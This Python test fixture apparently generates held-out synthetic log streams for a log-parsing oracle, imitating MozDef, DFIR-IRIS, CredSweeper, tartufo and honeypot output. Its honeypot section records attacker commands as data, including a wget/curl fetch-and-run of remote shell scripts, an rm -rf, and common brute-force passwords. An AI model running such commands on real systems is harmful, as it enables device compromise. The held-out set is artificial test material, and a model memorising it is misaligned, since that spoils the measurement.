"""The 68-th held-out set of real programs, measured before any rule is
written from it (see `heldout.py` to `heldout67.py`): six more programs'
own logging set-ups, chosen from the security tooling platform and SRE
teams run in AWS (a SOC's tools host, where Mozilla's MozDef workers pull
CloudTrail from SQS into Elasticsearch and DFIR-IRIS serves the incident
responders' cases; secret scanners run as a scheduled ECS task over an
organisation's repositories, where Samsung's CredSweeper and GoDaddy's
tartufo take turns; honeypots on an exposed EC2 host, where qeeqbox's
honeypots play SSH, Telnet, HTTP and Redis servers and ADBHoney an
Android debug bridge), each format copied from the file named beside it
(the version read is given), with the formatter class the program uses,
and messages modelled on the program's source under its loggers' names.

    .venv/bin/python tests/oracle/sweep.py heldout68

A by-hand measurement, like `heldout.py`: once a rule is written from one
of its failures, that program is no longer held out.
Its first measurement, at 04dc8d0 (session 28's end, no rule written
from this set), with nothing configured: 50.5% exact, 58.3% key
fields (asctime 100.0%, levelname 100.0%, name 70.0%, message 88.2%).

Formatters and filters: no program here uses a filter. MozDef's initLogger
gives its logger (named sys.argv[0]: "esworker_cloudtrail.py") a
logging.Formatter whose formatTime is replaced, on the instance, by
loggerTimeStamp: toUTC(datetime.now()).isoformat(), an ISO 8601 time with
microseconds and "+00:00" (`MozDefFormatter`, the record's time for
datetime.now(); configured as `iso8601`); the logger is at INFO.
DFIR-IRIS calls logging.basicConfig with its LOG_FORMAT (module and
funcName, " :: " between fields); its modules log through app.logger ("app",
propagating to the root's handler) or the logging module itself ("root").
Its migration runs Alembic's env.py, whose fileConfig(alembic.ini) puts the
same format on a new root handler but sets the root to WARN (the "app"
logger stays at INFO): after "Running DB migration" the root's INFO records
no longer print, only its warnings. gunicorn's own records for IRIS go through
gunicorn's handlers (`realworld.gunicorn_programs`); fileConfig's
disable_existing_loggers silences the worker's, so only the master's show.
CredSweeper's dictConfig (secret/log.yaml) prints "simple" on stdout at the
--log level; its --jobs pool processes (spawned) call basicConfig with
another format (processName, threadName, filename) on stderr: one program,
two formats in the stream. tartufo's root handler prints "[%(asctime)s]
[%(levelname)s] - " (--log-timestamps is its default; -v gives INFO).
qeeqbox's honeypots print their "honeypots.error" logger through "[%(levelname)s]
%(message)s" on stdout. ADBHoney's config module calls
logging.basicConfig(level=DEBUG) first, so output_log's later
basicConfig(format=...) does nothing and its "ADBHoneypot" records (at
the cfg's log_level, info) reach the console in Python's BASIC_FORMAT,
"INFO:ADBHoneypot:", their messages often a dict's repr or tab-separated.

Print lines: the shell's and git's lines around the scanners, CredSweeper's
--banner and summary print()s, tartufo's report (click.echo: "Tartufo Scan
Results (Time: ...)", its issues between "~~~~" separators, its
configuration), the honeypots' events (their CustomHandler writes each
event as a JSON line to stdout: no formatter), threading's traceback for
ADBHoney's download thread when it dies, and Docker's lines.

The messages are modelled on the programs' source (read at the commits
cited): MozDef's mq/esworker_cloudtrail.py, IRIS's post_init.py,
configuration.py, util.py, iris_engine/utils/tracker.py and
module_handler.py (their line numbers and function names are the source's),
CredSweeper's main.py, app.py, ml_model/ml_validator.py and file_handler
(line numbers read), tartufo's scanner.py and util.py, honeypots'
__main__.py, base_server.py and ssh_server.py, ADBHoney's config.py and
core.py. The values (accounts, hosts, repositories, files, sessions,
commands) and the exception texts of third-party libraries are made up.

Left out: Log4Pot (thomaspatzke/Log4Pot 5002b1fe: print() only, its events
go to a JSON file), Assemblyline (CybercentreCanada/assemblyline-base
8166b5bf assemblyline/common/log.py: its console logs JSON by default,
log_as_json, through its own JsonFormatter; kept for a set on JSON-shaped
formats), Zeek's zkg (zeek/package-manager 97450ba4: zeekpkg logs through a
logger with no handler of its own; the CLI's set-up not read), Scirius
(StamusNetworks/scirius 3bb49d38 docker/scirius/scirius/local_settings.py
has three formats; which handler reaches the console not traced), Cowrie
and Dionaea (Twisted's and dionaea's own loggers, not Python logging; not
read), and, in earlier sets or their "Left out" paragraphs, Conpot,
Heralding, misp-modules, Yeti, VulnWhisperer, credential-digger, Tanner,
OpenCanary, pulledpork3, Zircolite, acme2certifier, certidude, sewer,
certbot, Lemur, ScoutSuite, Prowler, detect-secrets, TruffleHog, ggshield,
sslyze, Wapiti, sqlmap, SpiderFoot, Suricata, fail2ban, Wazuh, StreamAlert
and ElastAlert.
"""

import datetime
import hashlib
import logging
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import realworld  # noqa: E402
from realworld import JsonFormatter, Program, printed, raised, uncaught  # noqa: E402
from heldout4 import pid  # noqa: E402
from heldout11 import now  # noqa: E402
from heldout12 import lg  # noqa: E402
from heldout13 import at  # noqa: E402

# MozDef (mozilla/MozDef, d7d4dd1c), mozdef_util/mozdef_util/utilities/
# logger.py initLogger's formatter (a StreamHandler on stderr when the
# config's output is "stdout"), its formatTime replaced by loggerTimeStamp
# (toUTC(datetime.now()).isoformat(), utilities/toUTC.py).
MOZDEF = "%(asctime)s - %(name)s - %(levelname)s - %(message)s"
# DFIR-IRIS (dfir-iris/iris-web, e6aa4ba3), source/app/__init__.py
# LOG_FORMAT and LOG_TIME_FORMAT through logging.basicConfig; the same in
# source/app/alembic.ini's formatter_generic.
IRIS = "%(asctime)s :: %(levelname)s :: %(module)s :: %(funcName)s :: %(message)s"
IRIS_DATEFMT = "%Y-%m-%d %H:%M:%S"
# CredSweeper (Samsung/CredSweeper, 1ed2ca5c), credsweeper/secret/log.yaml
# "simple" (the "console" handler on stdout, through dictConfig in
# credsweeper/logger/logger.py).
CREDSWEEPER = "%(asctime)s | %(levelname)s | %(module)s:%(lineno)d | %(message)s"
# CredSweeper (1ed2ca5c), credsweeper/app.py __multi_jobs_scan's yapfix,
# through logging.basicConfig in each pool process (pool_initializer).
CREDSWEEPER_POOL = ("%(asctime)s | %(levelname)s | %(processName)s:%(threadName)s | %(filename)s:%(lineno)s | "
                    "%(message)s")
# tartufo (godaddy/tartufo, fd71fc06), tartufo/cli.py main's log_format
# with --log-timestamps (its default) and no excess verbosity.
TARTUFO = "[%(asctime)s] [%(levelname)s] - %(message)s"
# honeypots (qeeqbox/honeypots, 3f52129f), honeypots/helper.py
# set_up_error_logging (the "honeypots.error" logger's stdout handler).
HONEYPOTS = "[%(levelname)s] %(message)s"
# ADBHoney (huuck/ADBHoney, 5befbe7b), adbhoney/config.py
# logging.basicConfig(level=logging.DEBUG): Python's BASIC_FORMAT (the
# format=FORMAT of adbhoney/outputs/output_log.py's later basicConfig is
# ignored: the root has its handler already).
ADBHONEY = logging.BASIC_FORMAT


class MozDefTime:
    """MozDef's loggerTimeStamp: toUTC(datetime.now()).isoformat(), here
    the record's time (datetime.now() when it is formatted)."""

    def formatTime(self, record, datefmt=None):
        return datetime.datetime.fromtimestamp(record.created, datetime.timezone.utc).isoformat()


class MozDefFormatter(MozDefTime, logging.Formatter):
    pass


class MozDefJsonFormatter(MozDefTime, JsonFormatter):
    pass


# --------------------------------------------------------------------------
# A SOC's tools host on EC2 (Docker's awslogs driver, one stream for the
# compose project): MozDef's CloudTrail worker reads the trail's SQS
# notifications into Elasticsearch, and DFIR-IRIS (gunicorn, eventlet)
# serves the incident responders' cases.

IRIS_SITE = "/iriswebapp/app/"
USERS = [("administrator", 1), ("mhernandez", 3), ("priya", 4), ("oncall-ir", 6)]
CASES = [(2, "#2 - Suspicious ConsoleLogin from TOR exit"), (3, "#3 - Leaked access key AKIA...7Q2F"),
         (4, "#4 - GuardDuty CryptoCurrency:EC2/BitcoinTool.B"), (5, "#5 - Phishing report 2024-05-11")]
IRIS_MODULES = ["iris_evtx", "iris_check_module", "iris_vt_module", "iris_misp_module", "iris_intelowl_module",
                "iris_webhooks_module"]


def stream_mozdef_iris():
    stream = []
    md = Program("mozdef", "esworker_cloudtrail.py", MozDefFormatter(MOZDEF), stream, truth=MozDefJsonFormatter,
                 datefmt="iso8601")
    ir = Program("dfir-iris", "app", logging.Formatter(IRIS, IRIS_DATEFMT), stream)
    gun, _ = realworld.gunicorn_programs(stream)
    m = lg(md, "esworker_cloudtrail.py", logging.INFO)
    app = lg(ir, "app")
    root = lg(ir, "root")
    mig = lg(ir, "alembic.runtime.migration")

    def iris(log, level, path, line, func, msg, exc=None):
        at(log, level, IRIS_SITE + path, line, func, msg, exc=exc)

    printed(stream, "Running :app ...")
    with pid(1):
        gun.log.info("Starting gunicorn 22.0.0")
        gun.log.info("Listening at: http://0.0.0.0:8000 (1)")
        gun.log.info("Using worker: eventlet")
    with pid(9):
        gun.log.info("Booting worker with pid: 9")
        for line, msg in [(481, "IRIS Server v2.4.20"), (482, "Min. API version supported: 2.0.0"),
                          (483, "Max. API version supported: 2.0.5"),
                          (484, "Min. module interface version supported: 1.1"),
                          (485, "Max. module interface version supported: 1.2.0"),
                          (486, "Session lifetime: 1440")]:
            iris(root, logging.INFO, "configuration.py", line, "Config", msg)
        iris(app, logging.INFO, "post_init.py", 119, "run_post_init", "IRIS v2.4.20")
        iris(app, logging.INFO, "post_init.py", 120, "run_post_init", "Running post initiation steps")
        iris(app, logging.INFO, "post_init.py", 126, "run_post_init", "Attempting to connect to the database...")
        iris(app, logging.INFO, "post_init.py", 128, "run_post_init", "Connecting to database, attempt 1/3")
        for line, msg in [(145, "Creating all Iris tables"), (149, "Creating Celery metatasks tables"),
                          (154, "Running DB migration")]:
            iris(app, logging.INFO, "post_init.py", line, "run_post_init", msg)
        site = "/opt/venv/lib/python3.9/site-packages/alembic/runtime/"
        at(mig, logging.INFO, site + "migration.py", 216, "__init__", "Context impl PostgresqlImpl.")
        at(mig, logging.INFO, site + "migration.py", 219, "__init__", "Will assume transactional DDL.")
        for line, msg in [(171, "Creating base languages"), (174, "Creating base os types"),
                          (181, "Creating base attributes"), (184, "Creating base report types"),
                          (187, "Creating base TLP"), (190, "Creating base events categories"),
                          (197, "Creating base analysis status"), (204, "Creating base tasks status"),
                          (207, "Creating base severities"), (210, "Creating base alert status"),
                          (213, "Creating base evidence types"), (216, "Creating base alert resolution status"),
                          (223, "Creating base review status"), (226, "Creating base hooks"),
                          (230, "Creating initial authorisation model")]:
            iris(app, logging.INFO, "post_init.py", line, "run_post_init", msg)
        for mod in IRIS_MODULES:
            for msg in ["Testing module", f"Module name : {mod}", "Module interface version : 1.2.0",
                        "Module type : module_processor", "Module health validated"]:
                iris(app, logging.INFO, "iris_engine/module_handler/module_handler.py", 97, "dup_logs", msg)
            iris(app, logging.INFO, "post_init.py", 1713, "register_default_modules",
                 f"Successfully registered {mod}")
        iris(app, logging.INFO, "post_init.py", 251, "run_post_init", "Creating symlinks for custom asset icons")
        iris(app, logging.INFO, "post_init.py", 271, "run_post_init", "Post-init steps completed")
        iris(app, logging.WARNING, "post_init.py", 272, "run_post_init", "===============================")
        iris(app, logging.WARNING, "post_init.py", 273, "run_post_init", "| IRIS IS READY on port  443 |")
        iris(app, logging.WARNING, "post_init.py", 274, "run_post_init", "===============================")

    m.info("started without uwsgi")
    trail = "s3://acme-org-cloudtrail/AWSLogs/o-7yq2k1x9ab/%s/CloudTrail/us-east-1/2024/05/11/"
    accounts = ["111122223333", "444455556666", "777788889999"]
    for cycle in range(8):
        # IRIS's users at work on their cases.
        with pid(9):
            for i, (user, uid) in enumerate(USERS):
                caseid, title = CASES[(cycle + i) % len(CASES)]
                acts = ["added IOC \"185.220.101.%d\"" % (cycle * 7 + i), "updated task \"Contain EC2 instance\"",
                        "added note \"CloudTrail timeline\"", "added asset \"i-0a1b2c3d4e5f%04d\"" % (cycle + i),
                        "updated case summary"]
                iris(app, logging.INFO, "iris_engine/utils/tracker.py", 56, "track_activity",
                     f"{user} [#{uid}] :: Case {caseid} :: " + acts[(cycle + i) % len(acts)].capitalize())
                if (cycle + i) % 4 == 0:
                    iris(app, logging.INFO, "iris_engine/module_handler/module_handler.py", 551,
                         "call_modules_hook", "Calling module iris_vt_module for hook on_postload_ioc_create")
            if cycle == 2:
                iris(root, logging.WARNING, "util.py", 536, "ac_return_access_denied",
                     "Access denied to case #3 for user ID 6. Error 5b0e7f9c-2d41-4a8e-9c1f-0e7d3a6b2c94")
            if cycle == 5:
                iris(root, logging.WARNING, "util.py", 336, "get_case_access", "No case found. Using default case")
        # MozDef's CloudTrail worker: quiet at INFO, but for its errors.
        if cycle in (1, 6):
            m.info("Received network related error...reconnecting")
        if cycle == 3:
            body = {"eventVersion": "1.09", "eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin",
                    "awsRegion": "us-east-1", "sourceIPAddress": "185.220.101.33", "errorMessage": None,
                    "userIdentity": {"type": "IAMUser", "accountId": accounts[0], "userName": "deploy-bot"}}

            def on_message():
                def save_event():
                    raised("mozdef_util.elasticsearch_client", "ElasticsearchException",
                           "TransportError(429, 'es_rejected_execution_exception', 'rejected execution of "
                           "coordinating operation [coordinating_and_primary_bytes=107374182, replica_bytes=0, "
                           "all_bytes=107374182, coordinating_operation_bytes=51207, max_coordinating_and_primary_"
                           "bytes=107374182]')")
                save_event()
            try:
                on_message()
            except Exception as e:
                m.exception("ElasticSearchException: {0} reported while indexing event, messages lost".format(e))
            try:
                body["details"] = body["requestParameters"]
            except Exception as e:
                m.exception(e)
                m.error("Malformed message: %r" % body)
        if cycle == 4:
            m.error("Invalid message format for cloudtrail SQS messages")
            m.error("Malformed Message: %r" % {"Type": "Notification", "MessageId": "7c1d0b6e-5f3a-4e2b-8a9d-"
                                               "3f2e1c0b9a87", "TopicArn": "arn:aws:sns:us-east-1:%s:cloudtrail-"
                                               "notify" % accounts[1], "Message": "CloudTrail validation message."})
            m.error("Invalid message format, expecting an s3ObjectKey in Message")
            m.error("Malformed Message: %r" % {"s3Bucket": "acme-org-cloudtrail", "s3ObjectKey": []})
        if cycle == 7:
            m.error("Unknown body type received %r\n" % (trail % accounts[2]))
    printed(stream, "iris-web-app-1  | Stopping ... ")
    m.info("Exiting worker")
    with pid(1):
        gun.log.info("Handling signal: term")
        gun.log.info("Shutting down: Master")
    return {"name": "mozdef-iris", "programs": [md, ir], "records": stream, "auto": False}


# --------------------------------------------------------------------------
# Secret scanners as a scheduled ECS task (one log stream): a shell script
# clones each of the organisation's repositories and runs CredSweeper over
# the tree (two pool processes), then tartufo over its history.

CS_SITE = "/usr/local/lib/python3.12/site-packages/credsweeper/"
REPOS = [("platform-terraform", 1412, 3), ("billing-api", 2230, 1), ("ops-runbooks", 388, 0),
         ("mobile-backend", 1875, 4), ("data-pipelines", 960, 2)]


def stream_credsweeper_tartufo():
    stream = []
    cs = Program("credsweeper", "credsweeper.main", logging.Formatter(CREDSWEEPER), stream)
    pool = Program("credsweeper.pool", "credsweeper.app", logging.Formatter(CREDSWEEPER_POOL), stream)
    tf = Program("tartufo", "tartufo.scanner", logging.Formatter(TARTUFO), stream)
    main = lg(cs, "credsweeper.main")
    app = lg(cs, "credsweeper.app")
    mlv = lg(cs, "credsweeper.ml_model.ml_validator")
    fpe = lg(cs, "credsweeper.file_handler.file_path_extractor")
    papp = lg(pool, "credsweeper.app")
    ptext = lg(pool, "credsweeper.file_handler.text_content_provider")
    scan = lg(tf, "tartufo.scanner")

    def c(log, path, line, func, msg, *args, level=logging.INFO, exc=None):
        at(log, level, CS_SITE + path, line, func, msg, *args, exc=exc)

    def in_pool(worker, log, path, line, func, msg, *args, level=logging.INFO):
        # A spawned pool process: its own processName.
        record = log.makeRecord(log.name, level, CS_SITE + path, line, msg, args, None, func=func)
        record.processName = f"SpawnPoolWorker-{worker}"
        with pid(40 + worker):
            log.handle(record)

    printed(stream, "+ aws s3 cp s3://acme-secops-config/scanners/tartufo.toml /scan/tartufo.toml")
    for n, (repo, files, found) in enumerate(REPOS):
        url = f"https://github.com/acme-corp/{repo}.git"
        printed(stream, f"+ git clone --quiet {url} /scan/{repo}")
        printed(stream, f"+ credsweeper --path /scan/{repo} --jobs 2 --log info --banner --save-json "
                        f"/out/{repo}.json")
        printed(stream, "CredSweeper 1.17.4 crc32:6d0e3a9f")
        c(main, "main.py", 209, "main", "Init CredSweeper object with arguments: %s CWD: %s",
          f"Namespace(path=['/scan/{repo}'], diff_path=None, export_config=None, export_log_config=None, "
          f"git=None, commits=0, ref=None, rule_path=None, config_path=None, log_config_path=None, "
          f"denylist_path=None, find_by_ext=False, depth=0, no_filters=True, doc=False, ml_threshold=0.0, "
          f"ml_batch_size=16, jobs=2, thrifty=False, skip_ignored=False, save_json='/out/{repo}.json', "
          f"save_xlsx=None, stdout=False, color=False, hashed=False, subtext=False, sort_output=False, "
          f"log='info', size_limit=None, banner=True)", "/app")
        c(main, "main.py", 212, "main", "Run analyzer on path: %s", [f"/scan/{repo}"])
        if repo == "data-pipelines":
            c(fpe, "file_handler/file_path_extractor.py", 182, "check_file_size",
              "Size (%s) of the file '%s' is over limit (%s)", 61431808,
              f"/scan/{repo}/fixtures/events-2024-04.ndjson", 30000000, level=logging.WARNING)
        if repo == "ops-runbooks":
            # The clone was left half done: the scan fails outright.
            def run():
                def get_scannable_files():
                    raise PermissionError(13, "Permission denied", f"/scan/{repo}/.git/objects/pack")
                get_scannable_files()
            try:
                run()
            except Exception as exc:
                c(main, "main.py", 99, "scan", exc, level=logging.CRITICAL, exc=True)
                c(main, "main.py", 100, "scan", exc, level=logging.ERROR, exc=True)
            continue
        c(app, "app.py", 275, "__multi_jobs_scan", "Scan in %s processes for %s providers", 2, files)
        for worker in (1, 2):
            if worker == 2 and repo == "mobile-backend":
                in_pool(worker, ptext, "file_handler/text_content_provider.py", 61, "lines",
                        "Binary file detected %s %s %s", f"/scan/{repo}/app/src/main/res/raw/truststore.bks",
                        "", "b'\\xfe\\xed\\xfe\\xed\\x00\\x00\\x00\\x02\\x00\\x00\\x00\\x01\\x00\\x00'",
                        level=logging.WARNING)
            in_pool(worker, papp, "app.py", 301, "files_scan", "Completed: processed %s providers with %s candidates",
                    files // 2 + worker % 2 * (files % 2), found * 3 + worker + n)
        candidates = found * 6 + 3 + n
        c(app, "app.py", 343, "post_processing", "Purged %s duplicates", 1 + n % 3)
        c(app, "app.py", 345, "post_processing", "Grouping %s candidates", candidates)
        if n == 0:
            c(mlv, "ml_model/ml_validator.py", 95, "__init__",
              "Init ML validator with providers: '%s' ; threads:%s ; model:'%s' md5:%s ; config:'%s' md5:%s",
              "CPUExecutionProvider", None, CS_SITE + "ml_model/ml_model.onnx",
              "8f3c2e1d0b9a7f6e5d4c3b2a19081726", CS_SITE + "ml_model/ml_config.json",
              "2b7e151628aed2a6abf7158809cf4f3c")
        c(app, "app.py", 361, "post_processing", "Run ML Validation for %s groups", candidates - 2)
        c(app, "app.py", 388, "export_results", "Exporting %s credentials", found)
        printed(stream, f"Detected Credentials: {found}")
        printed(stream, f"Time Elapsed: {11.482 + 3.17 * n + files / 977:.13f}")

        # tartufo over the repository's history.
        printed(stream, f"+ tartufo -v --config /scan/tartufo.toml scan-local-repo /scan/{repo}")
        printed(stream, "Tartufo Scan Results (Time: %s.%06d)" % (now("%Y-%m-%dT%H:%M:%S"), 118204 + n * 7))
        scan.info("Initializing included paths")
        scan.info("Initializing excluded paths")
        scan.info("Initializing excluded entropy patterns")
        scan.info("Initializing excluded regex patterns")
        if repo == "billing-api":
            # A rule added to the shared config does not compile.
            def configure_regexes():
                def compile_rules():
                    raised("re", "error", "missing ), unterminated subpattern at position 17")
                compile_rules()
            scan.info("Initializing regex rules")
            try:
                configure_regexes()
            except Exception as exc:
                scan.exception("Error loading regex rules", exc_info=exc)
            printed(stream, "Error: missing ), unterminated subpattern at position 17")
            continue
        scan.info("Initializing regex rules")
        scan.info("Excluding submodules paths from scan.")
        scan.info("Starting scan...")
        for branch in ("main", "release/2024.05", "dependabot/pip/requests-2.32.0"):
            scan.info("Scanning branch: %s", branch)
        for path in ("docs/vendor/swagger-ui.js", "tests/fixtures/fake_keys.pem"):
            scan.info("%s excluded - matched excluded paths", path)
        issues = min(max(found - 1, 0), 2)
        scan.info("Found %d issues.", issues)
        for i in range(issues):
            printed(stream, "~~~~~~~~~~~~~~~~~~~~~")
            printed(stream, "Reason: " + ("High Entropy" if i % 2 == 0 else "Regular Expression Match"))
            if i % 2:
                printed(stream, "Detail: AWS API Key")
            printed(stream, f"Filepath: {['terraform/modules/ci/variables.tf', 'scripts/bootstrap.sh'][i % 2]}")
            printed(stream, "Signature: %064x" % (0x9f2c4e1b7a3d5c6e8f0a + i * 7919 + n))
            printed(stream, "Commit time: 2024-04-%02d 09:1%d:42" % (20 + i, i))
            printed(stream, "Commit message: chore: bump provider versions")
            printed(stream, "Commit hash: %040x" % (0x4e1b7a3d5c6e8f0a9f2c + i * 104729 + n))
            printed(stream, "Branch: main")
            printed(stream, "@@ -12,6 +12,7 @@ variable \"ci_token\" {")
            printed(stream, "+  default = \"AKIAQ3EGVP7RZXO2K7M%d\"" % i)
            printed(stream, "~~~~~~~~~~~~~~~~~~~~~")
        if not issues:
            printed(stream, "All clear. No secrets detected.")
        printed(stream, "Configuration:")
        printed(stream, "  version:             5.0.2")
        printed(stream, "  entropy:             Enabled")
        printed(stream, "    sensitivity: 75")
        printed(stream, "  regex:               Enabled")
    printed(stream, "+ aws s3 sync /out s3://acme-secops-reports/secret-scans/2024-05-11/")
    return {"name": "credsweeper-tartufo", "programs": [cs, pool, tf], "records": stream, "auto": False}


# --------------------------------------------------------------------------
# Honeypots on an exposed EC2 host (Docker's awslogs driver, one stream):
# qeeqbox's honeypots play SSH, Telnet, HTTP and Redis servers, and ADBHoney
# an Android debug bridge on 5555. The honeypots' events are JSON lines
# their handler writes itself.

SERVERS = [("ssh", "QSSHServer", "ssh_server", 2222), ("telnet", "QTelnetServer", "telnet_server", 2323),
           ("http", "QHTTPServer", "http_server", 8080), ("redis", "QRedisServer", "redis_server", 6379)]
ATTACKERS = ["45.148.10.%d" % n for n in (81, 92, 174)] + ["218.92.0.%d" % n for n in (29, 112)] + ["193.32.162.40"]
CREDS = [("root", "123456"), ("admin", "admin"), ("ubuntu", "ubuntu"), ("pi", "raspberry"), ("root", "P@ssw0rd"),
         ("oracle", "oracle")]
ADB_CMDS = ["shell:cd /data/local/tmp/; busybox wget http://%s/w.sh; sh w.sh; curl http://%s/c.sh; sh c.sh",
            "shell:pm path com.ufo.miner", "shell:getprop ro.product.model",
            "shell:rm -rf /data/local/tmp/*; chmod 777 /data/local/tmp/trinity; /data/local/tmp/trinity"]


def event(server, port, **fields):
    """A honeypot event as helper.py's CustomHandler prints it."""
    import json
    micros = round(realworld.CLOCK.t * 1000) % 1000 * 1000
    entry = {"timestamp": now("%Y-%m-%dT%H:%M:%S") + ".%06d" % micros, **fields, "server": server,
             "dest_ip": "0.0.0.0", "dest_port": port}
    return json.dumps({k: str(v) for k, v in entry.items()}, sort_keys=True)


def stream_honeypots_adbhoney():
    stream = []
    hp = Program("honeypots", "honeypots.error", logging.Formatter(HONEYPOTS), stream)
    adb = Program("adbhoney", "ADBHoneypot", logging.Formatter(ADBHONEY), stream)
    h = lg(hp, "honeypots.error", logging.INFO)
    a = lg(adb, "ADBHoneypot", logging.INFO)
    conf = lg(adb, "config")

    printed(stream, "Attaching to adbhoney-1, honeypots-1")
    conf.info("Loading config from /etc/adbhoney.cfg")
    a.info("Configuration loaded with ['output_log', 'output_json'] as output plugins")
    a.info("Listening on 0.0.0.0:5555.")
    h.info("For updates, check https://github.com/qeeqbox/honeypots")
    h.info("Successfully loaded config file config.json")
    h.warning("config.json file overrides --ip, --port, --username and --password")
    for short, _, server, port in SERVERS:
        h.info("Parsing honeypot [normal]")
        printed(stream, event(server, port, action="process", status="success", src_ip="0.0.0.0", src_port=port))
    h.info("servers ssh, telnet, http, redis running...")
    h.info("Everything looks good!")

    for cycle in range(9):
        ip = ATTACKERS[cycle % len(ATTACKERS)]
        short, _, server, port = SERVERS[cycle % len(SERVERS)]
        sport = 40000 + cycle * 911 % 20000
        printed(stream, event(server, port, action="connection", src_ip=ip, src_port=sport))
        for user, password in CREDS[cycle % 3: cycle % 3 + 3]:
            status = "success" if (user, password) == ("root", "123456") else "failed"
            printed(stream, event(server, port, action="login", status=status, src_ip=ip, src_port=sport,
                                  username=user, password=password))
        if cycle == 3:
            h.error(f"[{server}]: Could not close port {port}")
        # ADBHoney's sessions, its records through the output queue.
        aip = ATTACKERS[(cycle + 2) % len(ATTACKERS)]
        session = "%012x" % (0x5a3c9e1f2b40 + cycle * 7331)
        a.info("Received a connection, creating an ADBConnection.")
        a.info(f"{aip} connection start ({session})")
        report = {"timestamp": now("%Y-%m-%dT%H:%M:%S") + ".%06dZ" % (cycle * 4111), "unixtime":
                  int(realworld.CLOCK.t), "session": session, "sensor": "honeypot01"}
        a.info(str({"eventid": "adbhoney.session.connect", "src_ip": aip, "src_port": 51000 + cycle, "dst_ip":
                    "172.17.0.3", "dst_port": "5555", **report}))
        if cycle == 5:
            a.error("data content length is greater than data_length, corrupt data!")
            a.info("Connection reset by peer.")
            continue
        cmd = ADB_CMDS[cycle % len(ADB_CMDS)].replace("%s", "194.38.23.%d" % (cycle + 2))
        a.info("shell command is {}, len {}".format(cmd[6:], len(cmd[6:])))
        a.info("{}\t{}".format(aip, (cmd + "\x00").encode()[:-1]))
        a.info(str({"eventid": "adbhoney.command.input", "input": cmd[6:], "src_ip": aip, **report}))
        if cycle % 4 == 0 and cycle < 7:
            url = "http://194.38.23.%d/w.sh" % (cycle + 2)
            sha = hashlib.sha256(b"w.sh %d" % cycle).hexdigest()
            a.info("File downloaded: {}, name: {}, bytes: {}".format(f"dl/{sha}.raw", "w.sh", 1873 + cycle))
            a.info(str({"eventid": "adbhoney.session.file_download", "src_url": url, "shasum": sha, "outfile":
                        f"dl/{sha}.raw", "filename": "w.sh", "session": session, "timestamp": report["timestamp"],
                        "unixtime": report["unixtime"], "sensor": "honeypot01"}))
        if cycle == 6:
            a.info("Receiving binary file...")
            a.info("File uploaded: {}, name: {}, bytes: {}".format(
                "dl/%s.raw" % hashlib.sha256(b"trinity").hexdigest(), "/data/local/tmp/trinity", 1437696))
        if cycle == 7:
            # The disk fills: UrlDownloader's write raises, its thread dies
            # and threading prints the traceback (no more downloads).
            printed(stream, "Exception in thread Thread-2:")

            def run():
                def write():
                    raise OSError(28, "No space left on device")
                write()
            uncaught(stream, run)
        a.info("{}\t{}\tconnection closed".format(round(3.2 + cycle * 1.7, 2), aip))
    h.info("[x] Stopping servers...")
    for short, cls, server, port in SERVERS:
        h.info(f"[x] Killing {cls} server")
        if short == "redis":
            def kill_server():
                def terminate():
                    raised("psutil", "NoSuchProcess", "process no longer exists (pid=31)")
                terminate()
            try:
                kill_server()
            except Exception as error:
                h.exception(f"Error when killing server {short}: {error}")
    h.info("[x] Please wait few seconds")
    a.info("Exiting...")
    printed(stream, "honeypots-1 exited with code 0")
    return {"name": "honeypots-adbhoney", "programs": [hp, adb], "records": stream, "auto": False}


def main():
    realworld.run(lambda: [stream_mozdef_iris(), stream_credsweeper_tartufo(), stream_honeypots_adbhoney()])


if __name__ == "__main__":
    main()
